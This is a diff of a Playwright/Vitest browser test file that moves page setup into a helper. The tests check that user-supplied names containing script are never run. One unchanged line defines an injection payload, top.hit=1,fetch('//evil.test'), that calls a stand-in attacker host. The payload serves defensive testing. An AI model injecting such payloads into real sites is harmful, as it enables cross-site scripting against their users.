@@ -1,11 +1,11 @@
 import type { ApiKeyCreated, InvitationCreated, PasskeyView, Session } from '@octavo/contracts';
-import type { Browser, BrowserContext, Page } from '@playwright/test';
+import type { Browser, Page } from '@playwright/test';
 import { afterAll, afterEach, beforeAll, describe, expect, inject, it } from 'vitest';
 import { createAuthenticator } from '../../apps/server/src/testing/authenticator.ts';
 import { startTestServer, type TestServer, type TestUser } from '../../apps/server/src/testing/server.ts';
 import { password } from '../lib/cast.ts';
 import { expectNothingRan } from './expect-nothing-ran.ts';
-import { type Seen, startBrowser, watch } from './watch.ts';
+import { openPage, type Seen, startBrowser } from './watch.ts';
 
 const act = `top.hit=1,fetch('//evil.test')`;
 /** Each fits into the 100 characters of a name. */
@@ -30,7 +30,6 @@ describe('names in the browser', () => {
   let server: TestServer;
   let browser: Browser;
   let base: string;
-  let context: BrowserContext;
   let page: Page;
   let seen: Seen;
   let admin: TestUser;
@@ -60,7 +59,7 @@ describe('names in the browser', () => {
       await invite(way);
     }
   });
-  afterEach(() => context?.close());
+  afterEach(() => page?.context().close());
   afterAll(async () => {
     await browser?.close();
     await server?.stop();
@@ -94,11 +93,7 @@ describe('names in the browser', () => {
   }
 
   async function signedIn(session: Session): Promise<void> {
-    context = await browser.newContext({ locale: 'en-GB' });
-    seen = await watch(context);
-    await context.addInitScript((text) => localStorage.setItem('octavo.session', text), JSON.stringify(session));
-    page = await context.newPage();
-    page.setDefaultTimeout(15_000);
+    ({ page, seen } = await openPage(browser, session));
   }
 
   /** All words of the page, those in its fields and its labels for screen readers included. */
@@ -162,7 +157,7 @@ describe('names in the browser', () => {
       }
     }
     // Of a browser only what we know of it is said.
-    await context.close();
+    await page.context().close();
     await signedIn(people[1]!.session);
     await page.goto(`${base}/account/security`);
     await page.getByText('Unknown device').first().waitFor();
